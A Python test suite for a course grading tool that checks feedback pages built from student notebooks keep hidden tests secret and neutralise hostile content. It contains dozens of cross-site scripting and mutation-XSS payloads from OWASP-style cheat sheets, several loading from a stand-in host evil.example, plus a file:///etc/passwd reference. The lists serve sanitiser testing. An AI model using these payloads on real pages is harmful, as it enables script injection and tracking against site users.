"""Pages of feedback from a real class: what they show, and what never comes through."""

import base64
import json
import os
import random
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from commands import course
from marked import give, notebook_of
from nbformat import v4
from tiny import LESSON, NO_TWICE, RIGHT, hand_in, release_of, solution_file, submitted, tiny_lesson

from course_lib.errors import CourseError
from course_tools.grading.classroom import init_class
from course_tools.grading.notebooks import LessonSource
from course_tools.grading.results import make_feedback, sanitize
from course_tools.grading.results.feedback_page import RESULTS, TEXT, UNDECIDED
from course_tools.grading.results.hidden_tests import HiddenTests
from course_tools.grading.run import grade

NOTHING = "\u2013"
HIDDEN_LINE = "assert add(2, 2) == 4, 'two and two are four'"
PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~"
    b"\x9bU\x00\x00\x00\nIDATx\x9cc`\x00\x00\x00\x02\x00\x01H\xaf\xa4q\x00\x00\x00\x00IEND\xaeB`\x82"
).decode()

# Each would do something in a page that shows it verbatim. From the cheat sheets of OWASP and
# PortSwigger, and from what notebooks can hold.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</pre></div></body><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<img src=\"data:image/png;base64,AAAA\" onload=\"alert(1)\">",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a 2x'>",
    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=' jav&#x0A;ascript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href=//evil.example target=_top ping=//evil.example>a</a>",
    "<iframe src=javascript:alert(1) srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=p><button formaction=javascript:1>b</form>",
    "<style>@import '//evil.example'; body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>over the page</p>",
    "<div id=x class=result>imitates</div>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example onloadstart=alert(1)></video><audio src=//evil.example></audio>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary></details>",
    "<table background=//evil.example><tr><td background=//evil.example>t</td></tr></table>",
    "<template><script>alert(1)</script></template><marquee onstart=alert(1)>m</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x-y onfocus=alert(1) tabindex=1 autofocus contenteditable>z</x-y>",
    "[click](javascript:alert(1)) ![p](https://evil.example/p.png) <https://evil.example>",
    "[a](<javascript:alert(1)> \"title\" onclick=alert(1)) ![x\" onerror=alert(1)](y)",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "$\\href{javascript:alert(1)}{x}$ $$<script>alert(1)</script>$$",
    "{{ cell }} {% raw %} {{ 7*7 }}",
    "\u202ereversed\u2066 \x1b[31mred\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
]  # fmt: skip
# What turns into something else when a browser parses what a cleaner has written; some swallow the
# rest of their text.
MUTATING = [
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><desc><style><!--</style><img src=x onerror=alert(1)>--></desc></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<p><table><b><math><mtext></b></table><style><i title=\"</style><script>alert(1)</script>\">",
    "<svg><p><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a><use href=data:,x /></svg>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"><plaintext><script>alert(1)</script>",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"><noframes><img src=x></noframes>",
    "<select><style></select><img src=x onerror=alert(1)></style><option><script>alert(1)</script>",
    "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "<img alt=\"</style></noscript></textarea>-->]]><script>alert(1)</script>`><b onload=1>\">",
    "<a title='\"><img src=x onerror=alert(1)>' href='https://evil.example/\"onclick=alert(1)//'>a</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">--><!--[if IE]><script>alert(1)</script>",
    "<?xml-stylesheet href='javascript:1'?><!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='data:text/html;base64,PHA+'>",
    "<img src=\"attachment:x\" onerror=alert(1)><img src='blob:x'><img src='file:///etc/passwd'>",
    "<a href='java\x00script:alert(1)'>a</a><a href='\x01javascript:1'>b</a><a href='\t//x'>c</a>",
    "<a href='https:evil'>a</a><a href='attachment:x'>b</a><a href='data:image/png;base64,A'>c</a>",
    "<b lang=x dir=rtl hidden is=x slot=y nonce=z popover data-x=1 aria-label=x part=p>t</b>",
    "<q cite=javascript:alert(1)>q</q><del cite=//evil.example>d</del><td headers=x abbr=y>t</td>",
    "<details name=x open=\" onclick=alert(1)\" class=result><summary id=y>s</summary></details>",
]  # fmt: skip


PANDAS = """<div>
<style scoped>.dataframe tbody tr th { vertical-align: top; }</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr>
</thead><tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>""".replace("\n", "")


class Page(HTMLParser):
    """What a page holds, as a parser sees it."""

    VOID = {"meta", "img", "br", "hr", "col", "link", "input"}

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text, self._inside = [], [], "", ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.text += " " if tag not in ("span", "a", "b", "em", "i", "strong") else ""
        self.attributes += [(tag, name, value or "") for name, value in attributes]
        self._inside = tag

    def handle_data(self, data):
        if self._inside != "style":
            self.text += data

    def handle_endtag(self, tag):
        self._inside = ""


def assert_harmless(text):
    page = Page(text)
    allowed = {"html", "head", "meta", "title", "style", "body", *sanitize._TAGS}
    assert set(page.tags) <= allowed, set(page.tags) - allowed
    assert page.tags.count("style") == 1 and page.tags.count("meta") == 4
    own = {"class", "charset", "content", "http-equiv", "lang", "name"}
    for tag, name, value in page.attributes:
        if name == "src":
            assert tag == "img" and value.startswith("data:image/"), value[:80]
        elif name == "href":
            assert tag == "a" and re.match(r"(https?:|mailto:)", value), value
        elif name in own:
            assert tag in ("html", "meta") or (
                name == "class"
                and re.fullmatch(
                    r"(source|written|output|label|result|note|number|code|theirs|\w{1,3}| )+",
                    value,
                )
            ), (tag, name, value)
        else:
            assert name in {a for names in sanitize._ATTRIBUTES.values() for a in names}
    return page


def page_of(directory, student, lesson=LESSON):
    path = directory / "feedback" / student / lesson / f"{lesson}.html"
    return path.read_text(encoding="utf-8")


def marked_notebook(directory, student):
    return directory / "ledger" / LESSON / f"{student}.ipynb"


def text_of(html):
    return " ".join(Page(html).text.split())


def lesson_with_hidden_tests():
    lesson = tiny_lesson()
    lesson.cells[2].source = lesson.cells[2].source.replace("assert add(2, 2) == 4", HIDDEN_LINE)
    lesson.cells[0].source += "\n\n[Read](https://keras.io) this."
    return lesson


@pytest.fixture(scope="module")
def marked_class(tmp_path_factory):
    """A class of one lesson: right, wrong, hidden-test failure, broken file, broken process."""
    folder = tmp_path_factory.mktemp("feedback")
    source = solution_file(folder, notebook=lesson_with_hidden_tests())
    directory = folder / "class"
    init_class(directory, [source], repository_root=None)
    hand_in(
        directory,
        ada=RIGHT | {"why": "Because *sums* commute: $a + b = b + a$."},
        ben=NO_TWICE,
        cleo=RIGHT | {"add": "def add(a, b):\n    return 3"},
        crash=RIGHT | {"twice": "import os\nos._exit(1)"},
        draws=RIGHT
        | {
            "add": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n"
            "def add(a, b):\n    return a + b"
        },
    )
    path = submitted(directory, "broken <b>")
    path.parent.mkdir(parents=True)
    path.write_bytes(b"<<<<<<< HEAD\n{}")
    grade(directory, LESSON)
    return directory


@pytest.fixture
def directory(marked_class, tmp_path):
    return Path(shutil.copytree(marked_class, tmp_path / "class"))


def test_a_page_shows_points_message_answers_and_a_persons_comment(directory):
    give(directory, LESSON, "ada", "why", 2.5, "Nicely *said*, but <script>alert(1)</script> why?")
    report = make_feedback(directory, "01")
    assert report.problems == [] and "ada" in report.written
    text = text_of(page_of(directory, "ada"))
    assert f"add {RESULTS['full']} 2 of 2" in text and f"twice {RESULTS['full']} 1 of 1" in text
    assert f"why {RESULTS['person']} 2.5 of 3" in text
    assert f"{TEXT['points_reached']} 5.5 of 6" in text and TEXT["waiting"] not in text
    assert "Because sums commute: $a + b = b + a$." in text
    assert "Nicely said, but why?" in text
    assert "def add(a, b): return a + b" in text and "assert add(1, 2) == 3" in text
    assert_harmless(page_of(directory, "ada"))


def test_a_wrong_answer_is_told_and_undecided_points_are_no_zeros(directory):
    make_feedback(directory, LESSON)
    text = text_of(page_of(directory, "ben"))
    assert f"twice {RESULTS['none']} 0 of 1" in text and "AssertionError" in text
    assert f"why {UNDECIDED['needs-human']} {NOTHING} of 3" in text
    assert f"{TEXT['points_so_far']} 2 of 6" in text and TEXT["waiting"] in text
    crash = text_of(page_of(directory, "crash"))
    assert f"twice {UNDECIDED['crashed']} {NOTHING} of 1" in crash
    assert "The process ended" in crash


def test_an_unreadable_submission_gets_a_page_that_says_so(directory):
    assert "broken <b>" in make_feedback(directory, LESSON).written
    html = page_of(directory, "broken <b>")
    text = text_of(html)
    assert TEXT["unreadable"] in text and "broken <b>" in text
    assert f"add {UNDECIDED['unreadable']} {NOTHING} of 2" in text
    assert_harmless(html)


def test_a_figure_stays(directory):
    make_feedback(directory, LESSON)
    assert '<img src="data:image/png;base64,iVBOR' in page_of(directory, "draws")


def test_hidden_tests_never_appear(directory):
    make_feedback(directory, LESSON)
    text = text_of(page_of(directory, "cleo"))
    assert "A hidden test failed (AssertionError)." in text and TEXT["hidden_tests"] in text
    for student in ("ada", "cleo"):
        html = page_of(directory, student)
        assert "two and two" not in html and "add(2, 2)" not in html and "HIDDEN" not in html
    # The notebook that the page is made from holds them.
    assert HIDDEN_LINE in (directory / "autograded/cleo" / LESSON / f"{LESSON}.ipynb").read_text()


def quoting(line):
    """Outputs that quote a line, as text, in colours, as HTML, in other spacing, as an error."""
    coloured = "".join(f"\x1b[38;5;28m{part}\x1b[39m " for part in line.split())
    spans = "<pre>" + "".join(f"<span>{letter}</span>" for letter in line) + "</pre>"
    return [
        v4.new_output("stream", text=f"----> 3 {line}\n"),
        v4.new_output("stream", text=coloured),
        v4.new_output("error", ename="E", evalue=line, traceback=[f"\x1b[31m{coloured}", line]),
        v4.new_output("display_data", {"text/html": f"<b>{line}</b>", "text/plain": line}),
        v4.new_output("display_data", {"text/html": spans}),
        v4.new_output("display_data", {"text/markdown": f"`{line}`"}),
        v4.new_output("display_data", {"text/markdown": line.replace("add", "*add*")}),
        v4.new_output("display_data", {"text/latex": line}),
        v4.new_output("execute_result", {"text/plain": repr(line).replace("\\'", "'")}),
    ]


def test_outputs_and_cells_that_quote_a_hidden_test_are_blotted_out(directory):
    path = marked_notebook(directory, "ada")
    notebook = nbformat.read(path, as_version=4)
    for number, output in enumerate(quoting(HIDDEN_LINE)):
        cell = v4.new_code_cell(f"print({number})", id=f"extra-{number}", outputs=[output])
        notebook.cells.append(cell)
    notebook.cells[2].outputs = quoting(HIDDEN_LINE)  # the test cell's own, as stock nbgrader has
    notebook.cells.append(v4.new_code_cell(f"if True:\n    {HIDDEN_LINE}", id="extra-91"))
    notebook.cells.append(v4.new_markdown_cell(f"I found `{HIDDEN_LINE}`!", id="extra-92"))
    notebook.cells.append(v4.new_raw_cell(f"I found {HIDDEN_LINE}!", id="extra-93"))
    nbformat.write(notebook, path)
    give(directory, LESSON, "ada", "why", 1, f"You shouldn't know {HIDDEN_LINE}")
    make_feedback(directory, LESSON)
    html = page_of(directory, "ada")
    assert "two and two" not in html and "twoandtwo" not in "".join(Page(html).text.split())
    assert TEXT["hidden"] in html and TEXT["left_out_hidden"] in html


def test_lines_that_learners_got_are_no_secret():
    lesson = tiny_lesson()
    lesson.cells[2].source = (
        "value = add(1, 2) * 100\nassert add(1, 2) == 3\n### BEGIN HIDDEN TESTS\n"
        "value = add(1, 2) * 100\nassert add(20, 22) == 42\n)\n### END HIDDEN TESTS"
    )
    hidden = HiddenTests.within(LessonSource(nbformat.writes(lesson)))
    assert "assertadd(20,22)==42" in hidden.lines and "value=add(1,2)*100" not in hidden.lines
    assert hidden.redact("a\n  assert add(20,\n 22) == 42 b") == f"a\n  {TEXT['hidden']} b"


def test_nothing_of_a_hostile_submission_survives(directory):
    path, notebook = notebook_of(directory, LESSON, "ada")
    answers = {
        cell.metadata.nbgrader.grade_id: cell
        for cell in notebook.cells
        if cell.metadata.get("nbgrader", {}).get("solution")
    }
    everything = "\n\n".join(VECTORS)
    pictures = '![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:"><script>.png)'
    answers["why"].source = f"{pictures}\n\n{everything}"  # an open <math> takes what follows along
    answers["why"]["attachments"] = {
        "a.svg": {"image/svg+xml": "<svg onload=alert(1)/>", "text/html": VECTORS[0]},
        "b.png": {"image/png": PNG},
        '"><script>.png': {"image/png": '"><script>alert(1)</script>'},
    }
    show = (
        "from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display\n"
        f"hostile = {VECTORS!r}\n"
        "for each in hostile:\n"
        "    print(each)\n"
        "    display(HTML(each), Markdown(each), Latex(each), Javascript(each))\n"
        "    display({'image/svg+xml': each, 'text/html': each}, raw=True)\n"
        "    display({'image/png': each}, raw=True)\n"
        "    display({'application/vnd.jupyter.widget-view+json': each}, raw=True)\n"
        "    display({'application/javascript': each}, raw=True)\n"
        "    display({each: each}, raw=True)\n"
        "display({'text/html': '<p>kept</p>'}, raw=True)\n"
    )
    answers["add"].source = f"{show}def add(a, b):\n    '''{VECTORS[3]}'''\n    return a + b"
    answers["twice"].source = f"def twice(a):\n    raise ValueError({everything!r})"
    notebook.cells.append(v4.new_markdown_cell(everything))
    notebook.cells.append(v4.new_raw_cell(everything))
    notebook.metadata["title"] = VECTORS[0]
    nbformat.write(notebook, path)
    hostile = "<script>alert(1)<!script> \"onload='x"
    shutil.copytree(path.parent, submitted(directory, hostile).parent)
    grade(directory, LESSON)
    give(directory, LESSON, hostile, "why", 1, everything)
    make_feedback(directory, LESSON)
    for student in ("ada", hostile):
        html = page_of(directory, student)
        page = assert_harmless(html)
        assert "kept" in page.text and "alert(1)" in page.text  # as text that does nothing
        assert f"data:image/png;base64,{PNG}" in html  # an honest attachment stays
        assert "\u202e" not in html and "\x1b" not in html
    assert f"{hostile}</p>" not in page_of(directory, hostile)


@pytest.mark.parametrize("vector", VECTORS + MUTATING)
def test_each_vector_is_harmless_as_html_and_as_markdown(vector):
    for made in (sanitize.fragment(vector), sanitize.markdown(vector), sanitize.code(vector)):
        page = Page(made)
        assert set(page.tags) <= sanitize._TAGS
        for tag, name, value in page.attributes:
            assert not name.startswith("on") and name not in ("style", "id", "srcset", "target")
            if name in ("src", "href"):
                assert re.match(r"https?:|data:image/png;base64,iVBOR", value), (tag, value)
                assert name == "href" or value.startswith("data:")


def test_pieces_of_vectors_put_together_are_harmless_also_when_cleaned_again():
    pieces = [
        piece
        for vector in VECTORS + MUTATING
        for piece in re.split("(?=<)|(?<=>)", vector)
        if piece
    ]
    draw = random.Random(11)
    for _ in range(400):
        html = "".join(draw.choices(pieces, k=12))
        made = sanitize.fragment(html)
        for each in (made, sanitize.fragment(made), sanitize.fragment(f"<table><td>{made}")):
            page = Page(each)
            assert set(page.tags) <= sanitize._TAGS, html
            names = {(tag, name) for tag, name, _ in page.attributes}
            assert all(name in sanitize._ATTRIBUTES.get(tag, ()) for tag, name in names), html
            for _, name, value in page.attributes:
                assert name != "href" or re.match("https?://|mailto:", value), html
                assert name != "src" or value.startswith("data:image/png;base64,iVBOR"), html


def test_what_is_worth_reading_stays():
    table = (
        "<style>td{color:red}</style><table border='1' class='frame'><tr><td>1</td></tr></table>"
    )
    assert sanitize.fragment(table) == "<table><tbody><tr><td>1</td></tr></tbody></table>"
    made = sanitize.markdown("# T\n\n**b** [k](https://keras.io)\n\n| a |\n|---|\n| 1 |\n\n$a<b$")
    for part in (
        "<h1>T</h1>",
        "<strong>b</strong>",
        '<a href="https://keras.io">',
        "<td>1</td>",
        "$a&lt;b$",
    ):
        assert part in made


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>a<br>b<hr>", "<p>a<br>b</p><hr>"),
        ("<b>a</b><i>b</i><code>c</code><kbd>d</kbd><sub>1</sub><sup>2</sup><mark>m</mark>", None),
        ("<ol start=3><li>x</ol>", '<ol start="3"><li>x</li></ol>'),
        ("<dl><dt>a</dt><dd>b</dd></dl><blockquote><p>q</p></blockquote>", None),
        ("<details open><summary>S</summary>b</details>",
         '<details open=""><summary>S</summary>b</details>'),
        ("<abbr title='mean'>μ</abbr> x &lt; y &amp; z",
         '<abbr title="mean">μ</abbr> x &lt; y &amp; z'),
        ("<a href='https://x.y/?a=1&b=2#c' target=_blank rel=opener>k</a>",
         '<a href="https://x.y/?a=1&amp;b=2#c">k</a>'),
        ("<a href=mailto:a@b.c>m</a><a href=HTTPS://X>u</a>",
         '<a href="mailto:a@b.c">m</a><a href="HTTPS://X">u</a>'),
        ("<a href=/here>k</a><a name=z href=#z>l</a>", "<a>k</a><a>l</a>"),
        ("<h2 id=x class=y style='color:red'>T</h2><!-- c -->", "<h2>T</h2>"),
        ("<font color=red>x</font><big>y</big><x-z>z</x-z>", "xyz"),
        ("<style>x</style><script>y</script><svg><text>s</text></svg><math><mi>m</mi></math>", ""),
        ("It is <object at 0x7f>. Or <select>, <title>?", "It is . Or , ?"),
        (f"<img src='data:image/png;base64,{PNG}' alt='a<b' width=9 height=5 style=x>",
         f'<img src="data:image/png;base64,{PNG}" alt="a&lt;b" width="9" height="5">'),
        ("<img src=https://x.y/z.png alt=z>", '<img alt="z">'),
        ("<pre>\n  a\n</pre>", "<pre>  a\n</pre>"),
        ("half \ud800, control \x1b[31m", "half \ufffd, control \ufffd[31m"),
        (PANDAS, "<div><table><thead><tr><th></th><th>a</th></tr></thead>"
                 "<tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>"),
        ("<table><caption>c<col span=2><tr><td colspan=2 rowspan=1 align=left>1<th scope=row>",
         '<table><caption>c</caption><colgroup><col span="2"></colgroup><tbody><tr><td colspan="2" '
         'rowspan="1" align="left">1</td><th scope="row"></th></tr></tbody></table>'),
    ],
    ids=range(19),
)  # fmt: skip
def test_html_is_kept_like_this(html, kept):
    assert sanitize.fragment(html) == (html if kept is None else kept)


def test_attachments_become_data_and_together_stay_small(monkeypatch):
    files = {"a b.png": {"text/html": "<b>", "image/png": PNG}, "x": "broken", "y": {}}
    shown = f'<img src="data:image/png;base64,{PNG}" alt="p">'
    assert sanitize.markdown("![p](<attachment:a b.png>)", files) == f"<p>{shown}</p>\n"
    for name in ("x", "y", "z"):
        assert sanitize.fragment(f"<img src=attachment:{name}>", files) == "<img>"
    monkeypatch.setattr(sanitize, "MAX_PICTURES_LENGTH", 2 * len(shown))
    assert sanitize.fragment("<img src='attachment:a b.png'>" * 50, files).count("data:") == 2


@pytest.mark.parametrize("mime", ["image/png", "image/jpeg", "image/gif", "image/webp"])
def test_a_picture_is_what_it_says_it_is(mime):
    assert (sanitize.picture(mime, PNG) is not None) == (mime == "image/png")
    for bad in ("", "not base64!", base64.b64encode(b"<svg onload=alert(1)>").decode(), PNG + '"'):
        assert sanitize.picture(mime, bad) is None
    assert sanitize.picture("image/svg+xml", PNG) is None


@pytest.mark.parametrize(
    "bomb",
    ["<div>" * 20_000, "<b>" * 20_000, "<div></b>" * 10_000, "[" * 90_000, "> " * 40_000,
     "*a " * 30_000, "&" * 90_000, "<!--" * 20_000, "<p>x" * 20_000, "- " * 40_000,
     "<table>" * 10_000, "![](" * 20_000, "x" * 10**6, "<a " + "b=c " * 20_000 + ">",
     '<ul x="</ul>">' * 7_000, "<ul x=</ul>>" * 7_000, "<svg>" * 19_000, "<math><mi>" * 9_000,
     # Formatting that is opened anew in every paragraph: a hundred times the memory, or more.
     "<p>" + "".join(f"<b x{i}>" for i in range(190)) + "</p>" + "<p>x</p>" * 11_000,
     "<p>" + "".join(f"<b x='>{i}' y='</b>'>" for i in range(190)) + "</p>" + "<p>x</p>" * 11_000,
     "<p>" + "".join(f'<em x="{i}"></EM\xa0>' for i in range(190)) + "</p>" + "<p>x</p>" * 11_000],
    ids=range(21),
)  # fmt: skip
def test_what_is_made_to_be_slow_comes_to_an_end(bomb):
    for made in (sanitize.markdown(bomb), sanitize.fragment(bomb)):
        assert set(Page(made).tags) <= sanitize._TAGS
        assert len(made) < 10**7


def test_much_honest_formatting_is_no_bomb():
    words = '<b>a</b> <i>b</i> <code class="x">c</code> <font color="red">d</font>\n' * 900
    assert sanitize.fragment(words).startswith("<b>a</b> <i>b</i> <code>c</code> d\n")
    answer = "A **strong** and *weak* `answer` with [a link](https://keras.io).\n\n" * 600
    assert sanitize.markdown(answer).count("<strong>strong</strong>") == 600


def test_odd_outputs_are_shown_or_named(directory):
    path = marked_notebook(directory, "ada")
    notebook = nbformat.read(path, as_version=4)
    notebook.cells[1].outputs = [
        v4.new_output("stream", text="1/3\r2/3\r3/3 done\n" + "long " * 10_000),
        v4.new_output("display_data", {"image/png": "broken", "text/plain": "<Figure>"}),
        v4.new_output("display_data", {"application/x-unknown": "1"}),
        v4.new_output("display_data", {}),
        v4.new_output("display_data", {"text/html": "<td>" * 40_000, "text/plain": "big"}),
        v4.new_output("error", ename="Odd", evalue="error", traceback=[]),
    ]
    notebook.cells[1].source += "  # \0 \ud800"
    path.write_text(json.dumps(notebook))  # which writes half a character as \\ud800
    make_feedback(directory, LESSON)
    text = text_of(page_of(directory, "ada"))
    assert "3/3 done" in text and "1/3" not in text and TEXT["cut"] in text
    assert "<Figure>" in text and "application/x-unknown" in text and "Odd: error" in text
    assert "big" in text and "# \\u0000 \\ud800" in text


def test_a_damaged_notebook_costs_no_other_page(directory):
    path = marked_notebook(directory, "ada")
    path.write_text("{")
    report = make_feedback(directory, LESSON)
    assert "ben" in report.written and "ada" not in report.written
    [problem] = report.problems
    assert problem.startswith("ada: ") and "is damaged" in problem and "Grade 01_tiny" in problem


def test_a_resubmission_that_is_not_graded_gets_no_page(directory):
    submitted(directory, "ben").write_bytes(release_of(directory).read_bytes())
    report = make_feedback(directory, LESSON)
    assert report.problems == [f"ben: not graded. Grade {LESSON} again first."]
    assert "ben" not in report.written and "ada" in report.written


def test_a_page_without_the_marked_notebook_shows_what_was_recorded(directory):
    shutil.rmtree(directory / "autograded")
    marked_notebook(directory, "ada").unlink()
    make_feedback(directory, LESSON)
    text = text_of(page_of(directory, "ada"))
    assert TEXT["no_notebook"] in text and f"add {RESULTS['full']} 2 of 2" in text


def test_an_interrupted_run_leaves_whole_pages(directory, monkeypatch):
    make_feedback(directory, LESSON)
    before = page_of(directory, "ben")
    monkeypatch.setattr(os, "fsync", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):
        make_feedback(directory, LESSON)
    assert page_of(directory, "ben") == before
    assert not list(directory.rglob("*.part"))


def test_feedback_refuses_clearly(directory, tmp_path):
    with pytest.raises(CourseError, match="not a class directory"):
        make_feedback(tmp_path, LESSON)
    with pytest.raises(CourseError, match="no lesson '7'"):
        make_feedback(directory, "7")
    with pytest.raises(CourseError, match="Not handed in 01_tiny: zoe"):
        make_feedback(directory, LESSON, ["zoe"])
    shutil.rmtree(directory / "submitted")
    with pytest.raises(CourseError, match="Nobody has handed in"):
        make_feedback(directory, LESSON)


def test_the_command_writes_pages_and_names_those_it_cannot(directory):
    done = course("feedback", directory, "01")
    assert (done.returncode, done.stderr) == (0, "")
    assert "6 pages" in done.stdout
    submitted(directory, "ben").write_bytes(b"{}")
    done = course("feedback", directory, "01")
    assert done.returncode == 1 and "NO PAGE: ben: not graded" in done.stdout


# -- nbgrader and Formgrader ----------------------------------------------------------------------


def test_nbgraders_own_command_and_button_make_the_same_page(directory):
    from course_tools.grading.classroom import open_api

    make_feedback(directory, LESSON)
    ours = page_of(directory, "cleo")
    shutil.rmtree(directory / "feedback")
    with open_api(directory) as api:
        result = api.generate_feedback(LESSON, "cleo")
    assert result["success"], result
    assert page_of(directory, "cleo") == ours


def test_nbgraders_release_finds_page_time_and_secret(directory, tmp_path):
    from traitlets.config import Config

    from course_tools.grading.classroom import open_api

    folder = submitted(directory, "ada").parent
    (folder / "timestamp.txt").write_text("2026-01-01 12:00:00 UTC\n")
    (folder / "submission_secret.txt").write_text("secret")
    make_feedback(directory, LESSON, ["ada"])
    (tmp_path / "exchange").mkdir(mode=0o777)
    (tmp_path / "exchange").chmod(0o777)
    with open_api(directory) as api:
        api.update_config(Config({"Exchange": {"root": str(tmp_path / "exchange")}}))
        result = api.release_feedback(LESSON, "ada")
    assert result["success"], result
    [released] = (tmp_path / "exchange").rglob("*.html")
    assert released.read_text() == page_of(directory, "ada")


def test_formgraders_view_of_a_hostile_submission_runs_nothing(directory):
    """Formgrader renders the autograded notebook with nbconvert in the grader's browser."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    from course_tools.grading.classroom import load_config

    path = directory / "autograded" / "ada" / LESSON / f"{LESSON}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    notebook.cells += [v4.new_markdown_cell(vector) for vector in VECTORS]
    notebook.cells += [v4.new_raw_cell(vector) for vector in VECTORS]
    blocks = [f"    # code\n\n{vector}\n\n```\nx\n\n{vector}\n```" for vector in VECTORS]
    notebook.cells += [v4.new_markdown_cell(block) for block in blocks]
    mimes = (
        "text/html",
        "text/markdown",
        "text/latex",
        "text/plain",
        "image/svg+xml",
        "image/png",
        "application/javascript",
        "application/vnd.jupyter.widget-view+json",
    )
    notebook.cells += [
        v4.new_code_cell(vector, outputs=[v4.new_output("display_data", {mime: vector})])
        for vector in VECTORS
        for mime in mimes
    ]
    nbformat.write(notebook, path)
    config = load_config(directory)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": LESSON,
        "notebook_id": LESSON,
        "submission_id": "1",
        "index": 0,
        "total": 1,
        "base_url": "",
        "mathjax_url": "",
        "student": "ada",
        "last_name": None,
        "first_name": None,
        "notebook_path": "x",
        "keyword": "",
        "next": None,
        "prev": None,
    }
    html, _ = HTMLExporter(config=config).from_filename(str(path), resources=resources)
    body = html[html.index('id="notebook-container"') :]
    page = Page(body)
    assert "alert(1)" in page.text  # as text
    assert not {"script", "iframe", "svg", "form", "object", "base"} & set(page.tags)
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert "alert" not in value or name in ("alt", "title"), (tag, name, value)
        assert name != "src" or value.startswith("data:image/png")
    # MathJax, which Formgrader loads, leaves <pre> alone.
    assert "\\href" not in re.sub(r"(?s)<pre.*?</pre>", "", body)
    assert "Because <em>sums</em> commute: $a + b = b + a$." in body and "scoring-buttons" in body


# -- a browser ------------------------------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def browse(page, tmp_path):
    """Return a page as the browser has it in the end, and the log of its requests."""
    log = tmp_path / "net.json"
    command = [
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        f"--log-net-log={log}",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--dump-dom",
        page.as_uri(),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout, log.read_text(errors="replace")


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM, reason="needs Debian's chromium (apt-get install chromium)")
def test_a_browser_runs_and_requests_nothing(directory, tmp_path):
    path, notebook = notebook_of(directory, LESSON, "ada")
    # Without a refresh, which no policy stops: the browser would leave the page too early.
    vectors = [
        vector for vector in VECTORS if "refresh" not in vector and "<noscript" not in vector
    ]
    attack = "\n".join(vectors).replace("alert(1)", "document.title='taken'")
    notebook.cells.append(v4.new_markdown_cell(attack.replace("\n", "\n\n")))
    nbformat.write(notebook, path)
    grade(directory, LESSON)
    make_feedback(directory, LESSON, ["ada"])
    page = directory / "feedback" / "ada" / LESSON / f"{LESSON}.html"
    title = f"<title>{TEXT['title']}: {LESSON}, ada</title>"
    shown, log = browse(page, tmp_path)
    assert title in shown and "evil.example" not in log

    text = page.read_text(encoding="utf-8")
